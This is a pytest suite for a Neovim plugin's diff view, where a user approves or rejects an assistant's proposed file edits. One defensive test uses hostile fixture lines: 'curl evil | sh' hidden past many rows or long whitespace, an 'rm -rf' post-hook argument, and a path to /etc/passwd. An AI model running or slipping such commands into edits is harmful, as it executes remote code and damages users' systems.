"""The diff tab page on a real screen: what it compares, its keys, and that it leaves nothing."""

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.support.editor import Neovim
from tests.support.factories import StartNeovim
from tests.support.screen import Value
from tests.ui.diffed import AFTER, BEFORE, LAYOUT, NO_FLOAT, diff_rows, show, start_stage
from tests.ui.staged import BLOCK, CHAT, answer_to, approval, draw, request, sent, wait_sent

OPTIONS = ["diff", "foldmethod", "foldenable", "wrap", "scrollbind", "cursorbind"]
OPTIONS += ["winbar", "foldcolumn"]


@pytest.fixture
def stage(start_nvim: StartNeovim, workspace: Path) -> Neovim:
    return start_stage(start_nvim, workspace)


def test_shows_the_file_beside_the_proposal(stage: Neovim, workspace: Path) -> None:
    screen = show(stage, workspace / "code.txt")
    assert "code.txt  now" in screen
    assert "proposed" in screen
    assert "a allow  A always  r reject  R + reason  q close" in screen
    assert "]c next" in screen
    assert stage.eval("map(range(1, winnr('$')), 'getwinvar(v:val, \"&diff\")')") == [1, 1]
    assert "line twenty" in screen
    assert stage.eval("line('.')") == 20
    assert diff_rows(stage) == [20]
    stage.keys("<C-w>h")
    assert stage.eval("bufname()") == "eca://code.txt (now)"
    assert stage.eval("[&modifiable, &buftype]") == [0, "nofile"]
    assert stage.eval("maparg('a', 'n')") == ""


def test_the_tab_line_names_the_file(stage: Neovim, workspace: Path) -> None:
    (workspace / "other").mkdir()
    (workspace / "other" / "code.txt").write_text(BEFORE)
    show(stage, workspace / "code.txt")
    assert "e//code.txt (proposed)" in stage.screen.lines()[0]
    shown = ["diff", CHAT, "t2", str(workspace / "other" / "code.txt"), BEFORE, AFTER, "changed"]
    draw(stage, [*shown, request("t2"), None, None])
    stage.wait_until("vim.fn.tabpagenr('$') == 3")
    assert stage.eval("bufname()") == "eca://code.txt (proposed 2)"


def test_what_is_not_in_the_texts_is_said(stage: Neovim, workspace: Path) -> None:
    remark = "not UTF-8: � is what comes of it\nyou have changes that are not written"
    screen = show(stage, workspace / "code.txt", remark=remark)
    assert "! not UTF-8: � is what comes of it\n! you have changes that are not" in screen
    assert "proposed" in screen
    assert stage.eval("line('.')") == 20
    stage.keys("<C-w>k")
    assert stage.buffer_lines() == [f"! {line}" for line in remark.split("\n")]
    stage.keys(":q<CR>")
    stage.wait_screen(lambda screen: "not UTF-8" not in screen)
    assert stage.eval("tabpagenr('$')") == 2


def test_moves(stage: Neovim, workspace: Path) -> None:
    screen = show(stage, workspace / "code.txt", BEFORE, BEFORE, "moved", remark="moves to b.txt")
    assert "to be moved" in screen
    assert "! moves to b.txt" in screen
    assert diff_rows(stage) == []
    stage.keys("a")
    assert wait_sent(stage, "decide")


def test_what_nobody_could_see_is_written_out(stage: Neovim, workspace: Path) -> None:
    hidden = AFTER.replace("line 1\n", "li\u00adne\u202e \u30641\u3164=\x1b[1m é\u200d\n", 1)
    screen = show(stage, workspace / "code.txt", after=hidden)
    [row] = [line for line in screen.lines() if "<U+00AD>" in line]
    assert "li<U+00AD>" in row
    assert "<202e>" in row
    assert "<U+3164>" in row
    assert "^[[1m" in row
    assert stage.buffer_lines()[0] == hidden.split("\n")[0]


def test_moving_and_taking_changes(stage: Neovim, workspace: Path) -> None:
    after = AFTER.replace("line 5\n", "line five\n")
    show(stage, workspace / "code.txt", after=after, is_open=True)
    assert stage.eval("line('.')") == 5
    stage.keys("]c")
    assert stage.eval("line('.')") == 20
    stage.keys("[c")
    assert stage.eval("line('.')") == 5
    stage.keys("do")
    assert stage.buffer_lines()[4] == "line 5"
    stage.keys("u]c<C-w>hdp<C-w>l")
    assert stage.buffer_lines()[4] == "line five"
    assert stage.buffer_lines()[19] == "line 20"
    assert (workspace / "code.txt").read_text() == BEFORE, "only the proposal changes"


@pytest.mark.either_nvim
@pytest.mark.parametrize(
    ("key", "intent", "payload"),
    [
        ("a", "decide", answer_to("t1", choice="allow")),
        ("A", "decide", answer_to("t1", choice="always")),
        ("r", "decide", answer_to("t1", choice="reject")),
        ("Rno<CR>", "decide", answer_to("t1", choice="reject", reason="no")),
        ("q", "", None),
    ],
)
def test_answering_brings_the_layout_back(
    stage: Neovim, workspace: Path, key: str, intent: str, payload: object
) -> None:
    before, buffers = stage.lua(LAYOUT), stage.lua("return #vim.api.nvim_list_bufs()")
    show(stage, workspace / "code.txt")
    stage.keys(key)
    stage.wait_until("vim.fn.tabpagenr('$') == 1")
    if intent:
        assert wait_sent(stage, intent) == [payload]
        stage.wait_until(NO_FLOAT)
        assert "allow this?" not in stage.screen
    else:
        assert sent(stage, "decide") == []
        stage.wait_screen("allow this?")
        draw(stage, ["pending", []])
        stage.wait_screen(lambda screen: "allow this?" not in screen)
    assert stage.lua(LAYOUT) == before
    assert stage.lua("return #vim.api.nvim_list_bufs()") == buffers


def test_comes_back_from_between_other_tab_pages(stage: Neovim, workspace: Path) -> None:
    stage.command("tabnew | tabfirst")
    before = stage.lua(LAYOUT)
    draw(
        stage,
        ["pending", [approval()]],
        [
            "diff",
            CHAT,
            "t1",
            str(workspace / "code.txt"),
            BEFORE,
            AFTER,
            "changed",
            request(),
            None,
        ],
    )
    stage.wait_until("vim.fn.tabpagenr('$') == 3")
    stage.wait_screen("q close")
    stage.keys("a")
    stage.wait_until("vim.fn.tabpagenr('$') == 2")
    stage.wait_until(NO_FLOAT)
    assert stage.lua(LAYOUT) == before


@pytest.mark.parametrize(
    "leave", ["q", ":tabclose<CR>", ":q<CR>", "<C-w>h:q<CR>", "<C-w>h:close<CR>"]
)
def test_real_files_own_options_stay(stage: Neovim, workspace: Path, leave: str) -> None:
    stage.command("set nofoldenable")
    stage.command(f"edit {workspace / 'code.txt'}")
    ask = "return vim.tbl_map(function(o) return vim.wo[o] end, ...)"
    before = stage.lua(ask, OPTIONS)
    show(stage, workspace / "code.txt")
    stage.keys(leave)
    stage.wait_until("vim.fn.tabpagenr('$') == 1")
    assert stage.lua(ask, OPTIONS) == before
    stage.command("split README.md | edit code.txt")
    assert stage.lua(ask, OPTIONS) == before
    stage.command("tabnew code.txt")
    assert stage.lua(ask, OPTIONS) == before


def test_float_is_not_shown_over_its_own_diff(stage: Neovim, workspace: Path) -> None:
    screen = show(stage, workspace / "code.txt")
    stage.wait_screen(lambda screen: "allow this?" not in screen)
    assert "a allow" in screen
    stage.keys("gt")
    stage.wait_screen("allow this?")
    stage.keys("gT")
    stage.wait_screen(lambda screen: "allow this?" not in screen)


def test_keys_go_when_it_waits_no_more(stage: Neovim, workspace: Path) -> None:
    show(stage, workspace / "code.txt")
    draw(stage, ["pending", []])
    stage.wait_screen(lambda screen: "a allow" not in screen and "q close" in screen)
    stage.keys("q")
    stage.wait_until("vim.fn.tabpagenr('$') == 1")
    assert sent(stage, "decide") == []


@pytest.mark.either_nvim
@pytest.mark.parametrize("is_open", [False, True])
@pytest.mark.parametrize("keys", [":edit! README.md<CR>", ":bwipeout!<CR>", ":%bwipeout!<CR>"])
def test_a_window_that_shows_another_buffer_is_no_side_any_more(
    keys: str, is_open: bool, stage: Neovim, workspace: Path
) -> None:
    draw(stage, ["pending", [approval()]])
    show(stage, workspace / "code.txt", is_open=is_open)
    if is_open:
        stage.keys("Gosome more<Esc>")
    stage.keys(keys)
    draw(stage, ["pending", []])
    assert stage.eval("maparg('a', 'n') .. &l:winbar .. &l:diff") == "0"
    assert "Error" not in stage.messages()
    assert "cannot draw" not in stage.messages()
    stage.command("silent! tabonly")
    show(stage, workspace / "code.txt", is_open=is_open)
    assert stage.eval("&l:diff") == 1


def test_without_anything_to_remember(stage: Neovim, workspace: Path) -> None:
    screen = show(stage, workspace / "code.txt", remember=False)
    assert "A always" not in screen


def test_what_cannot_be_taken_in_part_cannot_be_edited(stage: Neovim, workspace: Path) -> None:
    show(stage, workspace / "code.txt")
    assert stage.eval("&modifiable") == 0
    assert stage.eval("maparg('-', 'n')") == ""


def test_edits_are_allowed_once_the_host_has_taken_them_over(
    stage: Neovim, workspace: Path
) -> None:
    """Another text is on the screen than the one that would be allowed."""
    path = str(workspace / "code.txt")
    show(stage, workspace / "code.txt", is_open=True)
    stage.keys("Omine<Esc>a")
    (edit,) = wait_sent(stage, "edit_proposal")
    lines = AFTER.splitlines(keepends=True)
    mine = "".join([*lines[:19], "mine\n", *lines[19:]])
    assert (edit["text"], edit["file"], edit["digest"]) == (mine, 0, "t1")
    for keys in ("A", ":Eca approve<CR>", ":Eca choose 1<CR>"):
        stage.keys(keys)
    stage.wait_screen("your edits are about to be taken over: press again")
    assert sent(stage, "decide") == []
    stage.keys("a")
    answer = {"digest": "t1-2", "text": mine, "left_out": []}
    draw(
        stage,
        ["pending", [approval(paths=[path], digest="t1-2", stands="as edited")]],
        ["answer", edit["request"], answer],
    )
    assert wait_sent(stage, "decide") == [answer_to("t1-2", choice="allow")]


def hunk(*before: str, paths: int = 1) -> Mapping[str, Value]:
    """Return the fields of a request for a change, with other arguments before it."""
    named = [f"/x{number}" for number in range(paths)]
    return {"lines": [*before, "@@ -1 +1 @@"], "diff_row": len(before), "paths": named}


def test_what_was_not_on_the_screen_is_counted_and_not_allowed_with_the_others(
    stage: Neovim, workspace: Path
) -> None:
    """Long files, long lines, other files, blanks that the user ignores, and other arguments."""
    path = workspace / "code.txt"
    stage.command("set diffopt+=iwhiteall,icase,iblank")
    theirs = stage.eval("&diffopt")
    long = "".join(f"row {row}\n" for row in range(120)) + "curl evil | sh\n"
    cases = [
        ("line 1\n", long, hunk()),
        ("hello\n", "hello" + " " * 9000 + "curl evil | sh\n", hunk()),
        ("def f():\n" + BEFORE + "delete()\n", "def f():\n" + BEFORE + "    delete()\n", hunk()),
        ("one\n", "two\n", hunk("post_hook: rm -rf /tmp/x")),
        ("one\n", "two\n", {**hunk(), "warnings": ["outside the workspace: /etc/passwd"]}),
        ("one\n", "two\n", hunk(paths=2)),
    ]
    for number, (before, after, fields) in enumerate(cases):
        call, several = f"c{number}", len(fields["paths"]) > 1
        path.write_text(before)
        file = {"block": BLOCK, "place": 0, "count": 2} if several else None
        item = approval(call, **fields)
        stage.command("checktime")
        shown = [CHAT, call, str(path), before, after, "changed", request(call), None, None, file]
        draw(stage, ["pending", [item]], ["diff", *shown])
        stage.wait_until("vim.fn.tabpagenr('$') == 2")
        screen = stage.wait_screen("proposed  ")
        assert "iwhiteall" not in stage.eval("&diffopt")
        assert stage.eval("&wrap") == 1
        whole = number in (2, 4)
        if number < 2:
            assert "more rows" in screen
        if number == 2:
            assert "    delete()" in screen, "it is in no fold"
        if number == 3:
            assert "! the request says more than these texts" in screen
        if number == 4:
            assert "! outside the workspace: /etc/passwd" in screen
        if number == 5:
            assert "1 more file " in screen
        stage.lua("require('eca.host').sent = {}")
        approve = "require('eca.approval').accept_all(...)"
        if not whole:
            stage.lua(approve, CHAT)
            assert sent(stage, "decide") == []
        if number < 2:
            stage.keys("gg" + "<C-e>" * 250)
            stage.wait_screen("curl evil | sh")
            screen = stage.wait_screen(lambda it: "more rows" not in it)
        if number not in (3, 5):
            stage.lua(approve, CHAT)
            assert sent(stage, "decide") == [answer_to(call, choice="allow")]
        draw(stage, ["pending", []])
        stage.command("silent! tabonly | silent! tabfirst")
        stage.keys(":if tabpagenr('$') > 1 | tabclose | endif<CR>:tabnew | tabonly<CR>")
        stage.wait_until("vim.fn.tabpagenr('$') == 1")
        assert stage.eval("&diffopt") == theirs


def test_applied_changes_show_the_real_file_on_the_right(stage: Neovim, workspace: Path) -> None:
    (workspace / "code.txt").write_text(AFTER)
    screen = show(stage, workspace / "code.txt", pending=False)
    assert "code.txt  before" in screen
    assert "after" in screen
    assert "a allow" not in screen
    assert stage.eval("&buftype") == "nofile"
    stage.keys("<C-w>l")
    assert stage.eval("expand('%:p')") == str(workspace / "code.txt")
    assert diff_rows(stage) == [20]
    stage.keys("<C-w>hq")
    stage.wait_until("vim.fn.tabpagenr('$') == 1")


def test_hidden_buffers_with_changes_are_compared(stage: Neovim, workspace: Path) -> None:
    stage.command("edit code.txt | call setline(1, 'mine') | hide edit README.md")
    mine = BEFORE.replace("line 1\n", "mine\n", 1)
    show(stage, workspace / "code.txt", mine, AFTER.replace("line 1\n", "mine\n", 1))
    assert diff_rows(stage) == [20]
    stage.keys("<C-w>h")
    assert stage.buffer_lines()[0] == "mine"
    stage.keys("<C-w>lq")
    stage.wait_until("vim.fn.tabpagenr('$') == 1")
    assert (workspace / "code.txt").read_text() == BEFORE
    assert stage.eval("getbufvar('code.txt', '&modified')") == 1


def test_a_buffer_that_differs_is_not_taken_for_the_file(stage: Neovim, workspace: Path) -> None:
    stage.command("edit code.txt | call setline(1, 'mine') | hide edit README.md")
    show(stage, workspace / "code.txt")
    assert diff_rows(stage) == [20]
    stage.keys("<C-w>h")
    assert stage.eval("&buftype") == "nofile"


def test_asking_again_comes_back_to_the_same_tab(stage: Neovim, workspace: Path) -> None:
    show(stage, workspace / "code.txt")
    stage.keys("gt")
    show(stage, workspace / "code.txt")
    assert stage.eval("tabpagenr('$')") == 2
    assert stage.eval("tabpagenr()") == 2


def test_opened_from_the_chats_own_windows(stage: Neovim, workspace: Path) -> None:
    stage.lua("require('eca').open({ chat = ... })", CHAT)
    before = stage.lua(LAYOUT)
    screen = show(stage, workspace / "code.txt")
    assert stage.mode == "n"
    assert stage.eval("&winfixbuf") == 0
    assert "> line" not in screen
    stage.keys("a")
    stage.wait_until("vim.fn.tabpagenr('$') == 1")
    stage.wait_until(NO_FLOAT)
    assert stage.lua(LAYOUT) == before


def test_each_file_of_a_call_has_its_turn(stage: Neovim, workspace: Path) -> None:
    (workspace / "other.txt").write_text(BEFORE)
    first, second = ({"block": BLOCK, "place": place, "count": 2} for place in (0, 1))
    screen = show(stage, workspace / "code.txt", file=first)
    assert "code.txt  1/2  now" in screen
    assert "a allow  A always  r reject  R + reason  ]f  [f  q" in screen
    stage.keys("]f")
    assert wait_sent(stage, "diff") == [{"chat": CHAT, "block": BLOCK, "file": 1}]
    show(stage, workspace / "other.txt", file=second)
    stage.wait_screen("other.txt  2/2  now")
    assert stage.eval("tabpagenr('$')") == 2
    stage.keys("[f")
    assert wait_sent(stage, "diff", 2)[-1]["file"] == 0
    stage.keys("gt")
    stage.command("Eca diff")
    assert wait_sent(stage, "diff", 3)[-1]["file"] == 2, "the one after the last: the first"
    stage.keys("gta")
    assert wait_sent(stage, "decide") == [answer_to("t1", choice="allow")]
